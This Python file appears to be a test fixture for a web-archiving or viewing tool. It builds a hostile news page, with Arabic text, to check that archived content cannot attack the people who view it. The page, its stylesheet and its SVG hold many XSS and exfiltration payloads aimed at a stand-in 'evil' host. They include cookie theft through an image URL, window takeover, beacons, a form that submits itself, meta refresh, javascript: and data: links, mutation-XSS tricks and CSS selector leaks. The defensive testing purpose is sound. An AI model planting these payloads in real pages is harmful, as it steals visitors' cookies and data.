"""A page that tries what an archived page may try against whoever looks at it, and its parts."""

from typing import Any

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
    b"\x00\x00\x00\x0cIDAT\x08\xd7c\xf8\xcf\xc0\x00\x00\x03\x01\x01\x00\x18\xdd\x8d\xb0\x00\x00\x00\x00IEND\xaeB`\x82"
)
BODY = "وقال شهود إن الطريق الساحلي أُغلق صباح السبت بعد انهيار جزء من الجسر القديم، ولم تُسجَّل إصابات. " * 4
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9"><script>top.document.title="svg"</script></svg>'
SHEET = """@charset "utf-8"; @import "more.css"; @import url({evil}/import.css);
@font-face {{ font-family: x; src: url({evil}/font.woff2) }}
h1 {{ color: rgb(1, 2, 3); background: url('bridge.png') }}
input[value^="s"] {{ background: url({evil}/leak?s) }} body {{ background: u\\72l({evil}/escaped.png) }}
p {{ background-image: image-set("{evil}/set.png" 1x); cursor: url({evil}/cursor.cur), auto }}
"""
SCRIPT = """
for (const target of [window, parent, top]) {{
  try {{ target.document.title = 'taken'; target.document.body.textContent = 'over' }} catch (e) {{}}
  try {{ target.location = '{evil}/left' }} catch (e) {{}}
}}
fetch('/search.json?q=a').then(r => r.text()).then(t => fetch('{evil}/api?' + t.length));
new Image().src = '{evil}/cookie?' + document.cookie;
navigator.sendBeacon('{evil}/beacon'); window.open('{evil}/window'); alert(1);
"""


def page(evil: str) -> str:
    """The page; `evil` is another server's address, which nobody may be led to."""
    script = SCRIPT.format(evil=evil)
    inline = script.replace("\n", " ").replace('"', "'")
    return f"""<!-- x --><!doctype html><html lang="ar" dir="rtl"><head><meta charset="utf-8">
    <title>إغلاق الطريق الساحلي</title><base href="{evil}/base/">
    <meta http-equiv="refresh" content="0;url={evil}/refresh">
    <meta http-equiv="Content-Security-Policy" content="script-src *">
    <meta property="og:type" content="article">
    <meta property="article:published_time" content="2026-11-20T10:00:00+03:00">
    <link rel="stylesheet" href="SITE/style.css" integrity="sha256-x">
    <link rel="preload" as="image" href="{evil}/p">
    <link rel="dns-prefetch" href="{evil}"><link rel="stylesheet" href="{evil}/sheet.css">
    <link rel="icon" href="{evil}/icon"><link rel="manifest" href="{evil}/manifest">
    <script>{script}</script><script src="{evil}/script.js"></script>
    <style>@import "{evil}/inline.css"; body {{ background: url({evil}/body.png) }}</style></head>
    <body onload="{inline}" background="{evil}/background.png"><article><h1>إغلاق الطريق الساحلي</h1>
    <img src="SITE/bridge.png" alt="الجسر" width="40" height="40" id="bridge" onerror="{inline}">
    <img src="{evil}/pixel.png" srcset="{evil}/two.png 2x" onerror="{inline}">
    <img src="SITE/drawing.svg" alt="drawing" id="drawing"><p>{BODY}</p>
    <p style="color: rgb(4, 5, 6)">{BODY}</p>
    <a href="{evil}/link" target="_top" ping="{evil}/ping" id="away">x</a> <a href="SITE/next" id="next">y</a>
    <a href="javascript:{inline}" id="js">z</a>
    <a href="data:text/html,<script>{script}</script>" id="data">w</a>
    </article><form action="{evil}/form" method="post">
    <input name="s" value="secret" autofocus onfocus="{inline}">
    <button formaction="{evil}/button">send</button></form><script>document.forms[0].submit()</script>
    <iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>{inline}</script>"></iframe>
    <object data="{evil}/object"></object><embed src="{evil}/embed">
    <video src="{evil}/film" poster="{evil}/poster">
    </video><audio src="{evil}/sound" autoplay></audio>{SVG}
    <svg><a href="javascript:alert(1)"><text>x</text></a>
    <use href="{evil}/use.svg#x"/><image href="{evil}/svg-image.png"/></svg>
    <math><mtext><img src="{evil}/math"
    onerror="{inline}"></mtext></math>
    <noscript><p title="</noscript><img src={evil}/mutated onerror={inline}>">
    <template><img src="{evil}/template"></template><xmp><img src="{evil}/xmp"></xmp>
    <div style="position:fixed;inset:0;background:url({evil}/over.png)" id="over"></div></body></html>"""


def put(site: Any, evil: Any) -> str:
    """Put the page and its parts on a server; its URL."""
    kind = type(site.pages["/robots.txt"])
    sheet = SHEET.format(evil=evil.url()[:-1])
    for path, body, media in (
        ("/bridge.png", PNG, "image/png"),
        ("/drawing.svg", SVG.encode(), "image/svg+xml"),
        ("/page-as-image", b"<html><script>alert(1)</script></html>", "image/png"),
        ("/style.css", sheet.encode(), "text/css"),
        ("/more.css", b"h1 { letter-spacing: 3px }", "text/css"),
    ):
        site.pages[path] = kind(body, 200, (("Content-Type", media),))
    html = page(evil.url()[:-1]).replace("SITE", site.url()[:-1])
    return str(site.put("/report/1?a=1&b=2", html, Set_Cookie="outlet=1"))
